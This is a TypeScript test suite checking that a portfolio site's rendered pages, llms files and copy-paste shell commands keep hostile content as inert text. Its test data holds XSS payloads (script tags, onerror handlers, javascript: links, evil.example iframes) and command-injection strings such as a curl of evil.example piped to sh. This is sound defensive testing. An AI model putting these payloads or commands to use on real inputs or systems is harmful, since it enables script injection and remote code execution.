// Hostile content in the developer resources (issue 11): text fields full of script tags,
// event handlers, `javascript:` links, Markdown links, images and closing tags, and URLs that
// are valid but odd. Built and served by the preview, the portal, every problem page and the
// llms files (raw, and rendered as Markdown) load in headless Chromium with no dialog and no
// request anywhere the page does not own; content reads back as the same text; and every
// copy-paste command, run through a real shell, has exactly the arguments it shows.
import { formatProblem } from "../build/report-problems.ts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawnSync } from "node:child_process";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { buildSite } from "../build/build-site.ts";
import { escapeHtml } from "../build/resources/html/html-text.ts";
import { renderAgentSection } from "../build/resources/portal/portal-agent.ts";
import { renderQuickStart } from "../build/resources/portal/portal-quick-start.ts";
import { escapeMarkdown, markdownUrl } from "../build/resources/text/markdown-escape.ts";
import { shellQuote, shellWords } from "../build/resources/text/shell-quote.ts";
import { createApp } from "../functions/api/core/app.ts";
import type { PortfolioIndex } from "../functions/api/core/portfolio-index.ts";
import { PROBLEM_CODES, problemSlug, type ProblemCode } from "../functions/api/core/http/problems.ts";
import { launchChromium } from "./support/browser.ts";
import { useSite } from "./support/preview-harness.ts";
import { PATIENCE_MS } from "./support/patience.ts";

/** marked 4, the Markdown renderer Redoc uses: CommonMark + GFM, raw HTML passed through. */
const { marked } = createRequire(import.meta.url)("marked") as { marked: { parse(markdown: string): string } };

const HOSTILE_CONTENT = "test/fixtures/hostile";
const VALID_CONTENT = "test/fixtures/content/valid";
const SOURCE_DATE_EPOCH = "1767225600";

/** Every text the fixture puts into content fields, and then some Markdown block starters. */
const PAYLOADS = [
  `<script>alert(document.domain)</script>`,
  `Defne <img src="x" onerror="alert(document.domain)">`,
  `<img src=x onerror=alert(document.domain)>`,
  `[click me](javascript:alert(document.domain))`,
  `![pixel](https://evil.example/pixel.png)`,
  `</p></code></pre></script></textarea></title></noscript><svg onload=alert(document.domain)>`,
  `<a href="javascript:alert(document.domain)">link</a> <https://evil.example/autolink>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  "`code` and ``more`` *em* __strong__ ~~gone~~ snake_case_name",
  "see https://evil.example/bare, www.evil.example and mail@evil.example",
  "&lt;script&gt; &#60;b&#62; &amp; AT&T",
  "# heading",
  "## heading",
  "> quote",
  "- item",
  "+ item",
  "* item",
  "1. item",
  "2) item",
  "=== setext",
  "--- rule",
  "```fence",
  "~~~fence",
  "| a | b |",
  "\\[escaped\\] and a trailing backslash \\",
];

async function buildInto(contentDir: string, baseUrl: string): Promise<{ dir: string; index: PortfolioIndex }> {
  const dir = await mkdtemp(path.join(tmpdir(), "portfolio-hostile-"));
  const result = await buildSite({ contentDir, outDir: dir, indexModule: false, baseUrl, env: { SOURCE_DATE_EPOCH } });
  if (!result.ok) throw new Error(result.problems.map(formatProblem).join("\n"));
  return { dir, index: result.index };
}

/** Run `words` as the arguments of `set --` in /bin/sh, with nothing on PATH, and read them back. */
function parseWithShell(words: string): string[] {
  const script = `set -- ${words}\nfor a in "$@"; do printf '%s\\0' "$a"; done`;
  const result = spawnSync("/bin/sh", ["-c", script], { env: { PATH: path.join(tmpdir(), "no-such-bin") }, encoding: "utf8", timeout: PATIENCE_MS });
  expect(result.stderr).toBe("");
  expect(result.status).toBe(0);
  return result.stdout.split("\0").slice(0, -1);
}

/** The text of an HTML fragment the way a browser decodes our escapes. */
function decodeHtml(html: string): string {
  return html.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&#39;", "'").replaceAll("&amp;", "&");
}

describe("escapeMarkdown: content text in Markdown stays the same text", () => {
  it.each(PAYLOADS)("renders %j as one paragraph of exactly that text, with no markup", (text) => {
    expect(marked.parse(escapeMarkdown(text))).toBe(`<p>${escapeHtml(text)}</p>\n`);
  });

  it("keeps the text one line: a newline cannot start a heading or a list", () => {
    expect(marked.parse(escapeMarkdown("Name\n# heading\n- item"))).toBe("<p>Name # heading - item</p>\n");
  });

  it.each([
    "https://example.com/x?a=)](javascript:alert(document.domain))",
    "https://example.com/in/(ada)'quote'",
    "https://example.com/study/[x](y) z",
    "https://example.com/?a=<b>",
  ])("markdownUrl(%j) is a link destination naming the same URL", (url) => {
    const html = marked.parse(`[name](${markdownUrl(url)})`);
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => decodeHtml(m[1] ?? ""));
    expect(hrefs).toHaveLength(1);
    expect(decodeURI(hrefs[0] ?? "")).toBe(url);
    expect(html).toMatch(/^<p><a href="[^"]*">name<\/a><\/p>\n$/);
  });
});

describe("shellQuote: a value is one shell argument that runs nothing", () => {
  it.each([
    "portfolio; curl https://evil.example/pwn.sh | sh; echo",
    "it's",
    "$(touch /tmp/pwned) `id` $HOME ${PATH}",
    "a\nb",
    "",
    "~",
    "*",
    "-n",
    "x=1",
    "http://127.0.0.1:8888/api/v1/projects?lane=builder&q=web",
    '{"jsonrpc":"2.0","id":1}',
    "plain-word_1.2:3@4%5+6,/",
  ])("%j survives /bin/sh as exactly one argument", (value) => {
    expect(parseWithShell(shellQuote(value))).toEqual([value]);
  });

  it("leaves plain words unquoted and splits a CLI command into quoted words", () => {
    expect(shellQuote("fixture-api")).toBe("fixture-api");
    expect(parseWithShell(shellWords("npx  fixture-cli; curl https://evil.example | sh"))).toEqual(["npx", "fixture-cli;", "curl", "https://evil.example", "|", "sh"]);
  });
});

describe("the portal's copy-paste commands with a hostile service name and CLI", () => {
  const service = "portfolio; curl https://evil.example/pwn.sh | sh; echo";
  const cli = "npx fixture-cli; curl https://evil.example/pwn.sh | sh";
  let dir: string;
  let index: PortfolioIndex;
  beforeAll(async () => {
    // The content rules may refuse such values; the renderers must be safe without relying on that.
    const built = await buildInto(VALID_CONTENT, "http://127.0.0.1:8888");
    dir = built.dir;
    index = {
      ...built.index,
      site: { ...built.index.site, service },
      profile: { ...built.index.profile, developerResources: { ...built.index.profile.developerResources, cli } },
    };
  });
  afterAll(async () => {
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it("quotes the service in `claude mcp add`, so the shell sees it as one argument", async () => {
    const html = await renderAgentSection(createApp(index), index);
    const line = /<code>(claude mcp add [^<]*)<\/code>/.exec(html)?.[1];
    expect(line).toBeDefined();
    expect(parseWithShell(decodeHtml(line ?? ""))).toEqual(["claude", "mcp", "add", "--transport", "http", service, `${index.site.baseUrl}/api/mcp`]);
  });

  it("quotes every word of the CLI command and every curl argument", async () => {
    const commands = [...renderQuickStart(index).matchAll(/<pre><code>([^<]*)<\/code><\/pre>/g)].map((m) => decodeHtml(m[1] ?? ""));
    expect(commands.at(-1)).toBeDefined();
    expect(parseWithShell(commands.at(-1) ?? "")).toEqual(cli.split(/\s+/));
    for (const command of commands.slice(0, -1)) {
      const args = parseWithShell(command);
      expect(args[0], command).toBe("curl");
      expect(args.at(-1), command).toMatch(new RegExp(`^${index.site.baseUrl.replaceAll(".", "\\.")}/api/v1/`));
    }
    const call = /<h3>Or call a tool by hand<\/h3>\n<pre><code>([^<]*)<\/code>/.exec(await renderAgentSection(createApp(index), index))?.[1] ?? "";
    const args = parseWithShell(decodeHtml(call));
    expect(args.slice(0, 3)).toEqual(["curl", "-X", "POST"]);
    expect(JSON.parse(args.at(-1) ?? "")).toMatchObject({ method: "tools/call", params: { name: "get_case_study" } });
  });
});

describe("hostile content through the preview, in headless Chromium", () => {
  const site = useSite({ content: HOSTILE_CONTENT });
  let index: PortfolioIndex;
  let base: string;
  let browser: Browser;

  beforeAll(async () => {
    ({ index, url: base } = site());
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });

  /** Open a page that records every dialog and every request outside `allowed` (exact URLs). */
  async function watchedPage(allowed: string[]): Promise<{ page: Page; dialogs: string[]; foreign: string[] }> {
    const page = await browser.newPage();
    const dialogs: string[] = [];
    const foreign: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      const url = request.url();
      if (!allowed.includes(url) && !/^(data|blob|about):/.test(url)) foreign.push(url);
    });
    page.on("popup", (popup) => foreign.push(`popup ${popup.url()}`));
    return { page, dialogs, foreign };
  }

  /** Elements content could have smuggled in: event handlers, script URLs, frames, embeds. */
  async function smuggledElements(page: Page): Promise<string[]> {
    return page.evaluate(() =>
      [...document.querySelectorAll("*")].flatMap((element) => {
        const found: string[] = [];
        for (const attribute of element.getAttributeNames()) {
          const value = element.getAttribute(attribute) ?? "";
          if (attribute.startsWith("on")) found.push(`${element.tagName} ${attribute}`);
          if (/^\s*javascript:/i.test(value)) found.push(`${element.tagName} ${attribute}=${value}`);
        }
        if (["IFRAME", "OBJECT", "EMBED"].includes(element.tagName)) found.push(element.tagName);
        return found;
      }),
    );
  }

  it("the fixture really is hostile: its name would fire as HTML", async () => {
    const profile = JSON.parse(await readFile(path.join(HOSTILE_CONTENT, "profile.json"), "utf8")) as { name: string };
    expect(profile.name).toBe(`Defne <img src="x" onerror="alert(document.domain)">`);
    expect(index.profile.name).toBe(profile.name);
  });

  it("the portal shows content as text, fires no dialog and asks only for its own files", async () => {
    const { page, dialogs, foreign } = await watchedPage([`${base}/`, `${base}/assets/redoc.standalone.js`]);
    await page.goto(`${base}/`, { waitUntil: "load" });
    await page.waitForSelector("#reference .api-content", { timeout: PATIENCE_MS });
    await page.waitForLoadState("networkidle");
    expect(await page.locator("h1").first().innerText()).toBe(index.profile.name);
    // Redoc renders info.summary as Markdown: the name must come back as the same text.
    const summary = await page.locator('#reference [data-role="redoc-summary"]').innerText();
    expect(summary.trim()).toBe(`A public, read-only API for the portfolio of ${index.profile.name}.`);
    expect(await page.locator("#reference").innerText()).toContain(`${index.profile.name}: Portfolio API`);
    expect(await smuggledElements(page)).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    await page.close();
  });

  it("every problem page fires no dialog and asks for nothing else", async () => {
    for (const code of Object.keys(PROBLEM_CODES) as ProblemCode[]) {
      const url = `${base}/problems/${problemSlug(code)}`;
      const { page, dialogs, foreign } = await watchedPage([url]);
      await page.goto(url, { waitUntil: "networkidle" });
      expect(await page.locator("h1").innerText(), code).toBe(PROBLEM_CODES[code].title);
      expect(await smuggledElements(page), code).toEqual([]);
      expect(dialogs, code).toEqual([]);
      expect(foreign, code).toEqual([]);
      await page.close();
    }
  });

  it.each(["llms.txt", "llms-full.txt"])("%s, opened raw and rendered as Markdown, fires no dialog and opens no heading or link from content", async (file) => {
    const url = `${base}/${file}`;
    const raw = await watchedPage([url]);
    await raw.page.goto(url, { waitUntil: "networkidle" });
    const text = await raw.page.evaluate(() => document.body.innerText);
    expect(raw.dialogs).toEqual([]);
    expect(raw.foreign).toEqual([]);
    await raw.page.close();

    // As a Markdown viewer would show it (marked, raw HTML allowed), on a page with no origin.
    const rendered = await watchedPage([]);
    await rendered.page.setContent(marked.parse(text), { waitUntil: "networkidle" });
    const headings = await rendered.page.$$eval("h1, h2, h3, h4, h5, h6", (list) => list.map((h) => `${h.tagName} ${(h as HTMLElement).innerText}`));
    const expected = [`H1 ${index.profile.name}`, "H2 API", "H2 Docs", "H2 MCP", "H2 Case studies"];
    if (file === "llms-full.txt") expected.push("H2 Profile", "H2 Skills", "H2 Projects", ...index.projects.map((p) => `H3 ${p.title}`));
    expected.push("H2 Optional");
    expect(headings).toEqual(expected);
    const hrefs = await rendered.page.$$eval("a[href]", (links) => links.map((a) => (a as HTMLAnchorElement).href));
    const contentUrls = new Set(collectUrls(index).map((u) => new URL(u).href));
    for (const href of hrefs) {
      const decoded = decodeURI(href);
      expect(href.startsWith(`${base}/`) || contentUrls.has(decoded) || contentUrls.has(href) || href === `mailto:${index.profile.contact.email}`, href).toBe(true);
    }
    expect(await rendered.page.$$("img, script, iframe, svg, code")).toHaveLength(file === "llms-full.txt" ? index.projects.length : 0);
    expect(await smuggledElements(rendered.page)).toEqual([]);
    expect(rendered.dialogs).toEqual([]);
    expect(rendered.foreign).toEqual([]);
    await rendered.page.close();
  });
});

/** Every URL the content gives: these may be shown and linked as they are. */
function collectUrls(index: PortfolioIndex): string[] {
  const { contact, keyProjects } = index.profile;
  return [
    contact.website,
    contact.github,
    contact.linkedin,
    contact.x,
    ...(keyProjects ?? []).map((k) => k.url),
    ...index.projects.flatMap((p) => [...Object.values(p.links), p.caseStudy?.url]),
  ].filter((url): url is string => url !== undefined);
}
